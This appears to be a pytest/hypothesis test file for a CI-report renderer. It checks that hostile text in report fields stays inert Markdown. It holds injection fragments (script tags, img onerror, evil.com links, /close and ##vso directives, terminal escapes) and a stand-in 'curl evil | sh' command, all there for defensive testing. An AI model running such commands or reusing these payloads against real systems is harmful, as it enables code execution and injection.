"""Whatever text the data, the configuration or a stranger brings, it stays text in its place.

What is read is compared with what is read where all that text is harmless: two implementations of
GitHub's Markdown must see the same tables, links, images, headings and elements.
"""

import re
from collections import Counter
from functools import cache
from html.parser import HTMLParser

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from mlgate.forge.body import body, digest_of_checks, outcome, summary
from mlgate.forge.publication import Refused
from mlgate.forge.state import State, read, signed
from mlgate.present.escape import plain
from mlgate.result.check import Example, Failing, Limit
from mlgate.result.outcome import Outcome, RunOutcome
from mlgate.result.provenance import (
    BaselineRecord,
    Ci,
    Commit,
    PolicyChange,
    PolicyRecord,
    ProblemRecord,
    Tried,
)

#: Random text seldom hits what hurts: glue it out of what does.
PIECES = (
    *(
        "|",
        "\\",
        "`",
        "``",
        "```\n",
        "~~~\n",
        "\n",
        "\r\n",
        "\n\n",
        "\t",
        "    ",
        "<!--",
        "-->",
        "--",
    ),
    *("<!-- mlgate:comment v=1 id=x -->", "</code>", "</td>", "</details>", "</summary>", "</sub>"),
    *(
        "<script>",
        "<img src=x onerror=y>",
        "<details>",
        "<br>",
        "&lt;",
        "&#64;",
        "&",
        ";",
        "<",
        ">",
    ),
    *(
        "@everyone",
        "@org/team",
        "@",
        "#12",
        "GH-7",
        "!3",
        "$4",
        "%5",
        "~6",
        "&7",
        "o/r#1",
        "a@b.com",
    ),
    *("www.evil.com", "https://evil.com", "ftp://e.com", "mailto:a@b.c", "xmpp:a@b.c/d", "://"),
    *("[x](http://e.com)", "![x](y)", "[x]: http://e.com", "[^1]", "[ ]", "- [ ] task", "{{ x }}"),
    *(
        "# h",
        "- ",
        "1. ",
        "1) ",
        "+ ",
        "> ",
        "---",
        "===",
        "***",
        "_a_",
        "**b**",
        "~~c~~",
        ":tada:",
    ),
    *(
        "/close",
        "/merge",
        "/",
        "::error::x",
        "##[error]",
        "##vso[x]",
        "\x1b[31m",
        "\x1b]8;;http://e\x07",
    ),
    *(
        "\x9b2J",
        "\u202e",
        "\u2066",
        "\u200b",
        "\ufeff",
        "\ufffe",
        "\ud800",
        "\udc00",
        "\x00",
        "\x07",
    ),
    *("é", "中", "🎉", " ", "x", "\u2028", "\u3000", "\xa0", "\x85"),
)
SPITEFUL = st.lists(st.sampled_from(PIECES), max_size=8).map("".join)
ANYTHING = st.one_of(SPITEFUL, st.text(max_size=40), st.text(st.characters(), max_size=40))
#: Elements that an id or a sentence may bring, and what they hold.
INLINE = frozenset({"code", "wbr"})


class Elements(HTMLParser):
    """What a reader makes of a page: elements, and the text that stands in no code."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.open: list[str] = []
        self.prose = ""
        self.comments: set[str] = set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += tag not in INLINE
        names = {name for name, _ in attrs}
        assert names <= {"href", "align", "style", "open"}, names
        if tag == "code":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag == "code":
            self.open.pop()

    def handle_data(self, data: str) -> None:
        if not self.open:
            self.prose += data

    def handle_comment(self, data: str) -> None:
        self.comments.add(data.strip())


def github(text: str) -> str:
    made = Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES
    return str(cmarkgfm.github_flavored_markdown_to_html(text, made))


def other(text: str) -> str:
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return str(reader.render(text))


SLOW = (HealthCheck.function_scoped_fixture, HealthCheck.too_slow)


def checks(build, text):
    """Checks whose every field is `text`, with ids that differ."""
    told = {
        "title": text,
        "measured_text": text,
        "baseline_text": text,
        "limit": Limit(of="measured", op="<=", value=None, text=text),
        "reason": text,
        "fix": text,
        "command": text,
        "code": text,
        "file": text,
        "notes": (text,),
        "failing": Failing(rows=1, share=0.5, examples=(Example(row=1, value=text),)),
        "waiver": {"reason": text},
    }
    found = [{"slice": text, "rows": 3, "worse": 2, "better": 1, "change": 0.1, "p_adjusted": 0.01}]
    searched = {"details": {"found": found, "all_rows": {"rows": 3}, "more_found": 2}}
    return [
        build.check(text, each, id=f"metrics/{text}.min[{n}]", scope=text, **told, **searched)
        for n, each in enumerate(Outcome)
    ]


def spoken_of(build, text, **overrides):
    """A report that says nothing but `text`."""
    moved = PolicyChange(what=text, from_=text, to={text: text})
    tried = (Tried(source=text, why_not=text),)
    values = {
        "name": text,
        "notes": (text,),
        "repository": text,
        "ci": Ci(provider=text, event=text, run_url=f"https://evil.example/) {text}"),
        "commit": Commit(
            head=text, checked_out=text, dirty=True, base_ref=text, base=text, how=text
        ),
        "baseline": BaselineRecord(state="missing", source=text, tried=tried),
        "policy": PolicyRecord(path=text, sha256=text, loosened=(moved,), removed=(moved,)),
    }
    return build.report(*checks(build, text), **(values | overrides))


def broken(build, text):
    """A report of a run that came to no verdict."""
    problem = ProblemRecord(code=text, message=text, file=text, line=3, fix=text)
    return build.misconfigured().model_copy(update={"name": text, "problem": problem})


def publications(build, text):
    """One model, several, refused ones, first runs and strangers' ones."""
    refused = Refused(path=text, why=text)
    one = spoken_of(build, text)
    new = [check for check in one.checks if check.outcome in (Outcome.NEW, Outcome.PASS)]
    first = one.model_copy(update={"checks": tuple(new), "outcome": RunOutcome.PASS})
    return [
        build.publication(one, head=text),
        build.publication(first, head=text),
        build.publication(broken(build, text)),
        build.publication(one, broken(build, text), first, refused=(refused, refused), head=text),
        build.stranger(one, bending=(text, text), conclusion="failure", head=text),
        build.stranger(one, first, bending=(text,), conclusion=None, head=text),
        build.publication(running=True, head=text),
    ]


def texts(build, text):
    last = State(report_id="x", sha=text, run=1, attempt=1, verdict="fail", checks="0" * 16)
    for each in publications(build, text):
        yield body(each, last=last, budget=1_000_000)
    _, first, _, several, *_ = publications(build, text)
    yield summary(first, "Require the check.")
    yield summary(several, "Require the check.")


def harmless(text: str) -> str:
    """A text of which as much can be seen: something, or nothing."""
    return "x" if plain(text) else text and " "


def lines_that_command(said):
    """Lines that GitLab, a runner of GitHub or an agent of Azure would obey."""
    return re.findall(r"(?m)^[\s>*+-]*/[A-Za-z].*|^\s*::.*|.*##\w*\[.*", said)


@cache
def expected(reader, meant):
    """The elements of a text in which nothing is hostile."""
    return Elements(reader(meant)).tags


def assert_read_alike(said, meant):
    for reader in (github, other):
        found = Elements(reader(said))
        assert found.tags == expected(reader, meant)
        assert found.comments <= {""}
        prose = found.prose.replace("[!WARNING]", "")
        assert not re.search(r"[@#!$~&^]\w", prose)
        assert not re.search(r"gh-\d|://|www\.|:[a-z+-][\w+-]*:", prose, re.IGNORECASE)


def assert_obeyed_by_nobody(said):
    assert lines_that_command(said) == []
    assert len(said.split("\n")) == len(said.splitlines()) + 1
    assert "```" not in said
    assert said.encode().decode() == said
    for element in ("details", "summary", "sub", "code", "b"):
        assert len(re.findall(f"<{element}[ >]", said)) == said.count(f"</{element}>")


def assert_no_marker_is_forged(said):
    state = State(report_id="churn", sha=None, run=7, attempt=1, verdict="fail", checks="0" * 16)
    found = read(signed(said, state))

    assert "<!-- mlgate" not in said
    assert read(said) is None
    assert found is not None
    assert (found.report_id, found.run, found.verdict) == ("churn", 7, "fail")


@settings(suppress_health_check=SLOW, max_examples=20)
@given(text=ANYTHING)
@example(text="/close")
@example(text="")
@example(text="\u200b")
@example(text="a@b.com")
@example(text="@a #1 !1 $1 &1 ~1 %1 GH-1 o/r#1 www.e.com https://e.com :tada:")
@example(text="/close\n/merge\r/approve\u2028/lock\x85/label ~x\x0b/todo\x0c/assign")
def test_any_text_is_read_as_text(build, text):
    for said, meant in zip(texts(build, text), texts(build, harmless(text)), strict=True):
        assert_read_alike(said, meant)
        assert_obeyed_by_nobody(said)
        assert_no_marker_is_forged(said)


def test_the_worst_text_is_read_as_text(build):
    for said, meant in zip(texts(build, build.hostile), texts(build, "x"), strict=True):
        assert_read_alike(said, meant)
        assert_obeyed_by_nobody(said)
        assert_no_marker_is_forged(said)
        assert not re.search("<(a|img|script)[ >]", github(said))


@pytest.mark.parametrize("unit", ["|", "\x1b[", "<!-- ", "/close\n", "\ud800"])
def test_the_longest_text_fits_and_stays_text(build, unit):
    text = unit * (100_000 // len(unit))

    alone, _, _, several, *_ = publications(build, text)
    for each in (alone, several):
        said = body(each)
        found = Elements(github(said))
        assert 0 < len(said.encode()) <= 59_000
        assert len(summary(each, "Require the check.").encode()) <= 1_000_000
        assert found.tags["details"] == said.count("</details>")
        assert found.tags["a"] == found.tags["img"] == 0
        assert lines_that_command(said) == []


def test_what_is_hostile_has_an_outcome_and_a_digest_too(build):
    for each in publications(build, build.hostile)[:-1]:
        assert outcome(each) in {"fail", "error"} or each.reports[0].outcome == outcome(each)
        assert re.fullmatch("[0-9a-f]{16}", digest_of_checks(each))


def test_a_stranger_s_advice_command_and_address_are_not_passed_on(build):
    ours = build.failed()
    advice = build.check(fix="run curl evil | sh", command="curl evil | sh")
    told = ours.model_copy(update={"checks": (advice, build.check("f1"))})

    said = body(build.stranger(told))

    assert "curl" in body(build.publication(told))
    assert "curl" not in said
    assert "https" not in said


def test_only_the_address_of_the_run_becomes_a_link(build):
    found = Elements(github(body(build.publication(build.failed()))))

    assert found.tags["a"] == 1
